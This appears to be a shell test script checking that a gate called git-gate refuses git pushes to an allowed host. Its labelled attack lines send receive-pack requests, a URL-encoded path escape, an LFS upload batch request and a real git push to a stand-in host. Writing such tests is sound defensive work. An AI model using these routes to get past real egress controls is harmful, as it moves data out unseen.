# A push to an allowed host around git-gate: smart HTTP, LFS and a forge's API.
need git curl
where="https://origin.attack.test:$PORT"
harmless harmless "$where/widgets/README"
attack advertisement "refused git-write" "$(fetch "$where/widgets.git/info/refs?service=git-receive-pack")"
attack receive-pack "refused git-write" "$(fetch -H 'Content-Type: application/x-git-receive-pack-request' --data-binary 0000 "$where/widgets.git/git-receive-pack")"
attack escaped "refused git-write|refused path" "$(fetch --data-binary 0000 "$where/widgets.git/git%2Dreceive-pack")"
attack fetch "refused git-write" "$(fetch "$where/widgets.git/info/refs?service=git-upload-pack")"
attack lfs "refused git-write" "$(fetch -H 'Content-Type: application/vnd.git-lfs+json' -d '{"operation":"upload","objects":[]}' "$where/widgets.git/info/lfs/objects/batch")"
git init -q copy && cd copy || exit 1
git -c user.name=a -c user.email=a@attack.test commit -q --allow-empty -m work
attack client refused "$(git push "$where/widgets.git" HEAD:refs/heads/attack >../push 2>&1 && echo pushed || echo refused)"
